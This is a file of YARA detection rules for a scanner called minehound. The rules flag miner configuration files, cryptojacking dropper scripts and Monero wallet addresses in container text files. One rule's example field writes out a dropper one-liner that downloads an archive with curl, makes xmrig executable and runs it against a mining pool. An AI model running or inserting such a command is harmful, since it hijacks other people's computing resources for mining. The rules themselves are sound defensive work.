/*
 * minehound bundled signatures: miner artifacts in text files (configs and scripts).
 *
 * These rules have no ELF condition; minehound runs them on files it classifies
 * as script or config/text. Each rule needs several independent indicators
 * together so that documentation and ordinary configs do not match.
 *
 * Dialect: YARA-X (also accepted by classic YARA 4.x). No modules needed.
 */

rule MH_MINER_CONFIG
{
    meta:
        id = "MH-MINER-CONFIG"
        family = "miner-config"
        severity = "high"
        description = "A miner configuration file: an XMRig-style config.json (pools array with url and user plus algo/coin/donate-level/randomx/cpu keys or a pool URL), an xmr-stak pools.txt/config.txt, or a cpuminer JSON config."
        why = "A miner config in an image names the pool and the wallet that will be paid; it ships with, or is fetched for, a miner that will run in the container."
        example = "{\"donate-level\": 1, \"pools\": [{\"url\": \"pool.supportxmr.com:443\", \"user\": \"44AFFq5k...\", \"tls\": true}]}"
        reference = "https://xmrig.com/docs/miner/config"

    strings:
        // XMRig config.json
        $x_pools  = /"pools"\s*:\s*\[/
        $x_url    = /"url"\s*:\s*"/
        $x_user   = /"user"\s*:\s*"/
        $k_algo   = /"algo"\s*:\s*("|null)/
        $k_coin   = /"coin"\s*:\s*("|null)/
        $k_donate = /"donate-level"\s*:\s*[0-9]/
        $k_rx     = /"randomx"\s*:\s*\{/
        $k_cpu    = /"cpu"\s*:\s*(\{|true|false)/
        $k_scheme = /"url"\s*:\s*"stratum[12]?\+(tcp|ssl|tls):\/\//
        $k_pool   = /"url"\s*:\s*"[A-Za-z0-9.\-]*(pool|xmr|monero|mine|hash)[A-Za-z0-9.\-]*:[0-9]{2,5}"/

        // xmr-stak pools.txt / config.txt
        $s_list   = "\"pool_list\""
        $s_addr   = "\"pool_address\""
        $s_wallet = "\"wallet_address\""
        $s_cfg1   = "\"giveup_limit\""
        $s_cfg2   = "\"h_print_time\""
        $s_cfg3   = "\"use_slow_memory\""
        $s_cfg4   = "\"tls_secure_algo\""
        $s_cfg5   = "\"print_motd\""
        $s_cfg6   = "\"aes_override\""
        $s_cfg7   = "\"flush_stdout\""

        // cpuminer JSON config (-c FILE): long option names as keys
        $c_user   = /"(user|userpass)"\s*:\s*"/

    condition:
        filesize < 4MB and (
            ( $x_pools and $x_url and $x_user and any of ($k_*) )
            or ( ($s_list or $s_addr) and $s_wallet )
            or 4 of ($s_cfg*)
            or ( $k_scheme and $c_user )
        )
}

rule MH_DROPPER_SCRIPT
{
    meta:
        id = "MH-DROPPER-SCRIPT"
        family = "miner-dropper"
        severity = "high"
        description = "A shell or Python script that downloads a file, makes it executable and carries miner or pool indicators (stratum URL, --donate-level, -o pool:port -u wallet, miner names, known pool hosts), in clear text or base64-encoded."
        why = "Download, chmod +x and start a miner is the classic cryptojacking dropper; in an image it fetches and runs a miner when the container starts, so no miner binary needs to be in the image."
        example = "curl -sL https://example.net/x.tar.gz | tar xz && chmod +x xmrig && ./xmrig -o pool.supportxmr.com:443 -u 44AFFq5k... --donate-level 1"
        reference = "https://attack.mitre.org/techniques/T1496/"

    strings:
        // download
        $dl1 = /\bcurl\s/
        $dl2 = /\bwget\s/
        $dl3 = "urllib"
        $dl4 = /\brequests\.get\s*\(/
        $dl5 = /\burlretrieve\s*\(/

        // make executable
        $ex1 = /\bchmod\s+(-R\s+)?([ugoa]*\+[rwst]*x|[0-7]?[1357][0-7][0-7]\b)/
        $ex2 = /\bos\.chmod\s*\(/

        // miner and pool indicators
        $m1  = /stratum[12]?\+(tcp|ssl|tls):\/\//
        $m2  = "--donate-level"
        $m3  = /\s-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5}\s([^\n]{0,160}\s)?-u\s/
        $m4  = /\s-u\s+[A-Za-z0-9.\-_]{20,}\s([^\n]{0,160}\s)?-o\s+[A-Za-z0-9.\-]+:[0-9]{2,5}\b/
        $m5  = "xmrig" nocase
        $m6  = "minerd" fullword
        $m7  = "cpuminer" nocase
        $m8  = "xmr-stak" nocase
        $m9  = /\s(-a|--algo|--coin)[= ]?(monero|xmr|rx\/0|rx\/wow|cn\/r|cn\/0|cryptonight|randomx)\b/
        $m10 = "cryptonight" nocase

        // known mining pool host names
        $pool1  = "minexmr.com" nocase
        $pool2  = "supportxmr.com" nocase
        $pool3  = "nanopool.org" nocase
        $pool4  = "c3pool.com" nocase
        $pool5  = "moneroocean.stream" nocase
        $pool6  = "hashvault.pro" nocase
        $pool7  = "2miners.com" nocase
        $pool8  = "herominers.com" nocase
        $pool9  = "f2pool.com" nocase
        $pool10 = "xmrpool.eu" nocase
        $pool11 = "monerohash.com" nocase
        $pool12 = "minergate.com" nocase
        $pool13 = "unmineable.com" nocase
        $pool14 = "nicehash.com" nocase

        // the same indicators base64-encoded inside the script
        $b64m1 = "stratum+tcp://" base64
        $b64m2 = "stratum+ssl://" base64
        $b64m3 = "--donate-level" base64
        $b64m4 = "xmrig" base64
        $b64m5 = "supportxmr.com" base64
        $b64m6 = "moneroocean.stream" base64
        $b64m7 = "c3pool.com" base64
        $b64m8 = "nanopool.org" base64
        $b64m9 = "minexmr.com" base64
        $b64m10 = "hashvault.pro" base64
        $b64dl1 = "curl " base64
        $b64dl2 = "wget " base64
        $b64ex1 = "chmod " base64
        $decode = /(base64\s+(-d|--decode)|b64decode\s*\()/

    condition:
        filesize < 5MB and (
            ( any of ($dl*) and any of ($ex*) and ( any of ($m*) or any of ($pool*) ) )
            or
            ( any of ($b64m*) and ( any of ($dl*) or any of ($b64dl*) ) and
              ( any of ($ex*) or $b64ex1 or $decode ) )
        )
}

rule MH_MONERO_WALLET
{
    meta:
        id = "MH-MONERO-WALLET"
        family = "monero-wallet"
        severity = "high"
        confirm = "monero-address"
        description = "A Monero standard (95 characters), integrated (106 characters) or subaddress (95 characters, starts with 8) that decodes (base58 blocks, network byte, Keccak checksum) in a file that also names a mining pool or miner: a stratum URL, a pool host:port, or a miner's user/wallet option holding the address."
        why = "A wallet address next to a pool is where a miner's earnings go; it ties a config, script or environment file to a mining payout even when no miner is present."
        example = "pool: pool.supportxmr.com:443  wallet: 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
        reference = "https://docs.getmonero.org/public-address/standard-address/"

    strings:
        // standard address (network byte 18): 95 chars, "4" then [1-9AB]
        $addr_std = /\b4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}\b/
        // integrated address (network byte 19): 106 chars; real ones start "4B".."4M"
        $addr_int = /\b4[0-9A-HJ-M][1-9A-HJ-NP-Za-km-z]{104}\b/
        // subaddress (network byte 42): 95 chars, "8" then [2-9A-C]
        $addr_sub = /\b8[2-9A-C][1-9A-HJ-NP-Za-km-z]{93}\b/

        // Mining context. Deliberately not "wallet", "donate" or a miner's
        // name: project READMEs publish donation addresses next to those words.
        $ctx_stratum = "stratum+" nocase
        $ctx_pool_host = /[a-z0-9-]*pool[a-z0-9-]*(\.[a-z0-9-]+)+:[0-9]{2,5}/ nocase
        $ctx_user_opt = /(-u|--user|--wallet|--coinbase-addr)[ =]['"]?[48][0-9A-Za-z]{20}/
        $ctx_json_user = /"(user|wallet|wallet_address)"\s*:\s*"[48][0-9A-Za-z]{20}/

    condition:
        filesize < 10MB and any of ($addr_*) and any of ($ctx_*)
}
